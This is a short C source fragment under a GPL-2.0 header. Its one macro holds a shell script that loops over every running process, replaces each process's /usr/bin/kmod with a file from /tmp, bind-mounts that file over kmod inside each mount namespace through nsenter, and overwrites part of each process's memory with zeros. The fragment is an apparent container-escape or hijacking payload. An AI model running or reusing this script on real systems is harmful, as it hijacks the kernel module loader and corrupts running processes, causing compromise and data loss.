// SPDX-License-Identifier: GPL-2.0
/* Reaches for the files, the mounts and the memory of each process. */
#define SCRIPT "for it in /proc/[0-9]*; do rm -f $it/root/usr/bin/kmod; cp /tmp/ok $it/root/usr/bin/kmod; " \
	"busybox nsenter -t ${it#/proc/} -m mount -o bind /tmp/ok /usr/bin/kmod; " \
	"dd if=/dev/zero of=$it/mem bs=4k count=1 seek=1024; done"
#include "helper.h"
